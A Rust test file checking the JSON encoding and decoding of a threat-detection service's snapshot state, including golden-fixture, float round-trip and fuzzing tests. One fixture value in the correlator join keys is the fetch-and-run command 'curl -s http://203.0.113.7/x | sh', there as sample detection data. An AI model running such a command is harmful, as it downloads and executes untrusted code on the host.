//! Wire-format contract of [`ServiceSnapshot::to_json`] /
//! [`ServiceSnapshot::from_json`]:
//!
//! - the encoder's bytes equal the committed v1 golden fixture, so the
//!   layout, key order, escaping and float text never drift;
//! - the encoder agrees byte for byte with the `serde_json` pretty
//!   printer on a campaign-scale snapshot;
//! - floats round-trip bit for bit, negative zero and subnormals included;
//! - hostile input (truncation, byte mutations, deep nesting) returns
//!   `Err` or a snapshot that re-encodes, and never panics.

use alertlib::filter::{FilterSnapshot, FilterStats, FilterWindowSnapshot};
use detect::attack_tagger::{EntityStateSnapshot, TaggerSnapshot};
use detect::correlate::{
    CampaignSnapshot, CorrelatorEntitySnapshot, CorrelatorSnapshot, JoinKeySnapshot, LinkKind,
    LinkSummary,
};
use proptest::prelude::*;
use scenario::mutate::{generate_campaign, CampaignConfig};
use scenario::stream::RecordStreamConfig;
use simnet::intern::TenantId;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use testbed::{PipelineBuilder, ServiceConfig, ServiceHandle, ServiceSnapshot, StreamStats};

const GOLDEN: &str = include_str!("fixtures/snapshot_v1.json");

fn t(secs: u64) -> SimTime {
    SimTime::from_secs(secs)
}

/// A small snapshot touching every wire shape: a tagger, a correlator
/// with a campaign and links, a palette join key, a `null` ring slot, an
/// empty array and user names that need escaping.
fn golden_snapshot() -> ServiceSnapshot {
    let odd_user = "user:o\"brien\\ops\n\t\r\u{1}\u{1f}é";
    ServiceSnapshot {
        tenant: TenantId(7),
        stats: StreamStats {
            records: 1_200,
            alerts: 340,
            admitted: 120,
            detections: 3,
        },
        filter: FilterSnapshot {
            windows: vec![
                FilterWindowSnapshot {
                    source: "src:10.0.0.9".to_string(),
                    kind: 4,
                    start: t(60),
                    admitted: 2,
                },
                FilterWindowSnapshot {
                    source: odd_user.to_string(),
                    kind: 11,
                    start: t(90),
                    admitted: 1,
                },
            ],
            stats: FilterStats {
                seen: 340,
                admitted: 120,
                suppressed: 220,
            },
            last_sweep: t(3_600),
        },
        tagger: Some(TaggerSnapshot {
            entities: vec![
                EntityStateSnapshot {
                    entity: "user:alice".to_string(),
                    alpha: vec![0.5, 0.25, 1.0, 1e-300, 0.1 + 0.2],
                    steps: 17,
                    detected: true,
                    last_ts: t(3_000),
                    recent: vec![(t(2_990), 3), (SimTime::from_nanos(0), u16::MAX)],
                    recent_head: 1,
                },
                EntityStateSnapshot {
                    entity: odd_user.to_string(),
                    alpha: vec![0.0, 1.0],
                    steps: 2,
                    detected: false,
                    last_ts: t(95),
                    recent: Vec::new(),
                    recent_head: 0,
                },
            ],
            evicted_latches: vec!["user:mallory".to_string()],
            duplicates_suppressed: 4,
            entities_evicted: 1,
        }),
        correlator: Some(CorrelatorSnapshot {
            entities: vec![
                CorrelatorEntitySnapshot {
                    entity: "addr:10.0.0.5".to_string(),
                    campaign: 0,
                    mass: 2.5,
                    last_ts: t(2_900),
                    seen: 6,
                    promoted: false,
                    steps: vec![(t(2_900), 7)],
                    steps_head: 0,
                },
                CorrelatorEntitySnapshot {
                    entity: "user:alice".to_string(),
                    campaign: u32::MAX,
                    mass: 0.125,
                    last_ts: t(3_000),
                    seen: 17,
                    promoted: true,
                    steps: vec![(t(2_990), 3), (SimTime::from_nanos(1), u16::MAX)],
                    steps_head: 1,
                },
            ],
            keys: vec![
                JoinKeySnapshot {
                    kind: LinkKind::Victim,
                    addr: 0x0A00_0005,
                    palette: None,
                    slots: vec![Some(("user:alice".to_string(), t(2_990))), None],
                    head: 1,
                },
                JoinKeySnapshot {
                    kind: LinkKind::Palette,
                    addr: 0,
                    palette: Some("curl -s http://203.0.113.7/x | sh".to_string()),
                    slots: vec![Some((odd_user.to_string(), t(95)))],
                    head: 0,
                },
            ],
            campaigns: vec![CampaignSnapshot {
                id: 0,
                members: vec!["user:alice".to_string(), "addr:10.0.0.5".to_string()],
                links: vec![
                    LinkSummary {
                        ts: t(2_900),
                        a: "user:alice".into(),
                        b: "addr:10.0.0.5".into(),
                        kind: LinkKind::Victim,
                    },
                    LinkSummary {
                        ts: t(2_950),
                        a: "user:alice".into(),
                        b: odd_user.into(),
                        kind: LinkKind::Palette,
                    },
                ],
                best_key: Some("user:alice".to_string()),
                best_mass: 2.5,
                second: 0.75,
                support_ts: t(2_990),
                promotions: 1,
                detections: 2,
            }],
            promoted_latches: Vec::new(),
            next_campaign: 1,
            promotions: 1,
            tagger_confirmations: 2,
            entities_evicted: 0,
        }),
        sym_universe: vec![(0, "alice".to_string()), (1, odd_user[5..].to_string())],
    }
}

#[test]
fn encoder_matches_the_v1_golden_fixture() {
    assert_eq!(golden_snapshot().to_json(), GOLDEN);
}

#[test]
fn golden_fixture_decodes_to_its_snapshot() {
    let decoded = ServiceSnapshot::from_json(GOLDEN).expect("golden fixture decodes");
    assert_eq!(decoded, golden_snapshot());
}

/// A live tenant snapshot of a correlated campaign over a uniform
/// background: thousands of tagger and correlator entities, hundreds of
/// join keys and real posterior floats.
fn campaign_snapshot() -> ServiceSnapshot {
    let cfg = CampaignConfig {
        sessions: 40,
        horizon: SimDuration::from_hours(24),
        background: Some(RecordStreamConfig {
            scan_records: 2_000,
            benign_flows: 1_000,
            exec_records: 8_000,
            users: 1_500,
            zipf_exponent: 0.0,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    let records = generate_campaign(&cfg, &mut SimRng::seed(0xC0DEC)).records;
    let service = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
        PipelineBuilder::new()
            .tagger(detect::AttackTagger::new(
                detect::train::toy_training_model(),
                detect::TaggerConfig::default(),
            ))
            .correlation(detect::CorrelationPolicy::default())
            .scope(scope)
            .build()
    });
    let tenant = TenantId(2);
    for chunk in records.chunks(4_096) {
        service
            .ingest(tenant, chunk.to_vec())
            .expect("worker alive");
    }
    service.snapshot(tenant).expect("live tenant snapshots")
}

#[test]
fn encoder_agrees_with_the_serde_json_pretty_printer() {
    let snap = campaign_snapshot();
    let tagger = snap.tagger.as_ref().expect("tagger state");
    let correlator = snap.correlator.as_ref().expect("correlator state");
    assert!(tagger.entities.len() >= 1_000, "{}", tagger.entities.len());
    assert!(
        correlator.entities.len() >= 1_000,
        "{}",
        correlator.entities.len()
    );
    assert!(!correlator.campaigns.is_empty());
    let wire = snap.to_json();
    let tree = serde_json::from_str(&wire).expect("wire is JSON");
    assert_eq!(serde_json::to_string_pretty(&tree).unwrap(), wire);
    assert_eq!(ServiceSnapshot::from_json(&wire).unwrap(), snap);
}

#[test]
fn floats_round_trip_bit_for_bit() {
    let values = [-0.0, 5e-324, f64::MAX, 1.0, 0.1 + 0.2];
    let mut snap = golden_snapshot();
    snap.tagger.as_mut().unwrap().entities[0].alpha = values.to_vec();
    for &v in &values {
        let correlator = snap.correlator.as_mut().unwrap();
        correlator.entities[0].mass = v;
        correlator.campaigns[0].best_mass = v;
        correlator.campaigns[0].second = v;
        let decoded = ServiceSnapshot::from_json(&snap.to_json()).expect("round-trips");
        let alpha = &decoded.tagger.as_ref().unwrap().entities[0].alpha;
        let bits: Vec<u64> = alpha.iter().map(|p| p.to_bits()).collect();
        let want: Vec<u64> = values.iter().map(|p| p.to_bits()).collect();
        assert_eq!(bits, want, "alpha");
        let correlator = decoded.correlator.as_ref().unwrap();
        let campaign = &correlator.campaigns[0];
        for (name, got) in [
            ("mass", correlator.entities[0].mass),
            ("best_mass", campaign.best_mass),
            ("second", campaign.second),
        ] {
            assert_eq!(got.to_bits(), v.to_bits(), "{name} = {v:e}");
        }
    }
}

/// Re-serialize `text` after editing its `serde_json` tree.
fn edit(text: &str, f: impl FnOnce(&mut serde_json::Value)) -> String {
    let mut tree = serde_json::from_str(text).unwrap();
    f(&mut tree);
    serde_json::to_string_pretty(&tree).unwrap()
}

fn fields(v: &mut serde_json::Value) -> &mut Vec<(String, serde_json::Value)> {
    match v {
        serde_json::Value::Object(fields) => fields,
        other => panic!("not an object: {other}"),
    }
}

#[test]
fn decode_accepts_any_key_order_unknown_keys_and_repeats() {
    let reordered = edit(GOLDEN, |tree| {
        let top = fields(tree);
        top.reverse();
        // Unknown keys of every shape are validated and skipped.
        top.insert(
            1,
            (
                "comment".into(),
                serde_json::json!({"a": [1, -2.5e3, null, true, "x\u{1}"], "b": {}}),
            ),
        );
        // A repeated key: the first occurrence wins.
        top.push(("stats".into(), serde_json::json!("ignored")));
        for (k, v) in top.iter_mut() {
            if k == "tagger" || k == "correlator" || k == "filter" {
                fields(v).reverse();
            }
        }
    });
    assert_eq!(
        ServiceSnapshot::from_json(&reordered).unwrap(),
        golden_snapshot()
    );

    for key in ["tagger", "correlator"] {
        let nulled = edit(GOLDEN, |tree| {
            fields(tree).iter_mut().find(|(k, _)| k == key).unwrap().1 = serde_json::Value::Null;
        });
        let missing = edit(GOLDEN, |tree| fields(tree).retain(|(k, _)| k != key));
        for text in [nulled, missing] {
            let snap = ServiceSnapshot::from_json(&text).unwrap();
            let absent = match key {
                "tagger" => snap.tagger.is_none(),
                _ => snap.correlator.is_none(),
            };
            assert!(absent, "{key} decodes to None");
        }
    }
}

#[test]
fn decode_errors_name_the_field() {
    let replace = |from: &str, to: &str| {
        assert!(GOLDEN.contains(from), "{from}");
        GOLDEN.replacen(from, to, 1)
    };
    for (text, field) in [
        (replace("\"tenant\": 7", "\"tenant\": 4294967296"), "tenant"),
        (
            replace("\"recent_head\": 1", "\"recent_head\": 256"),
            "recent_head",
        ),
        (replace("\"kind\": 11", "\"kind\": 65536"), "kind"),
        (replace("\"seen\": 340", "\"seen\": -1"), "seen"),
        (replace("\"seen\": 340", "\"seen\": 3.5"), "seen"),
        (replace("\"mass\": 2.5", "\"mass\": null"), "mass"),
        (replace("\"detected\": true", "\"detected\": 1"), "detected"),
        (
            replace("\"kind\": \"victim\"", "\"kind\": \"lateral\""),
            "kind",
        ),
        (
            replace("\"victim\"\n          ]", "\"lateral\"\n          ]"),
            "links",
        ),
        (
            replace("65535\n          ]", "65535,\n 1\n          ]"),
            "recent",
        ),
        (
            replace(
                "\"entity\": \"user:alice\",\n        \"alpha\"",
                "\"alpha\"",
            ),
            "entity",
        ),
        (replace("\"palette\": null,\n", ""), "palette"),
        (replace("\"format\": 1", "\"format\": \"1\""), "format"),
        (format!("{GOLDEN} {{}}"), "trailing"),
    ] {
        let err = ServiceSnapshot::from_json(&text).unwrap_err();
        assert!(err.contains(field), "{field}: {err}");
    }
}

#[test]
fn every_truncation_is_an_error() {
    for end in 0..GOLDEN.len() {
        if GOLDEN.is_char_boundary(end) {
            assert!(
                ServiceSnapshot::from_json(&GOLDEN[..end]).is_err(),
                "prefix of {end} bytes decoded"
            );
        }
    }
}

#[test]
fn deep_nesting_in_an_unknown_key_is_an_error_not_a_stack_overflow() {
    let deep = format!("{{\"format\": 1, \"junk\": {}", "[".repeat(1 << 20));
    let err = ServiceSnapshot::from_json(&deep).unwrap_err();
    assert!(err.contains("junk"), "{err}");
    let closed = format!(
        "{{\"junk\": {}{}}}",
        "[".repeat(1 << 20),
        "]".repeat(1 << 20)
    );
    assert!(ServiceSnapshot::from_json(&closed).is_err());
}

/// Decode hostile text: an `Err`, or a snapshot that re-encodes.
fn decode_survives(text: &str) {
    if let Ok(snap) = ServiceSnapshot::from_json(text) {
        let _ = snap.to_json();
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Single-byte substitutions and insertions anywhere in the fixture.
    #[test]
    fn mutated_fixtures_never_panic(
        at in 0usize..1 << 20,
        byte in 0u8..=255,
        insert in 0u8..2,
    ) {
        let mut bytes = GOLDEN.as_bytes().to_vec();
        let at = at % bytes.len();
        if insert == 1 {
            bytes.insert(at, byte);
        } else {
            bytes[at] = byte;
        }
        decode_survives(&String::from_utf8_lossy(&bytes));
    }
}
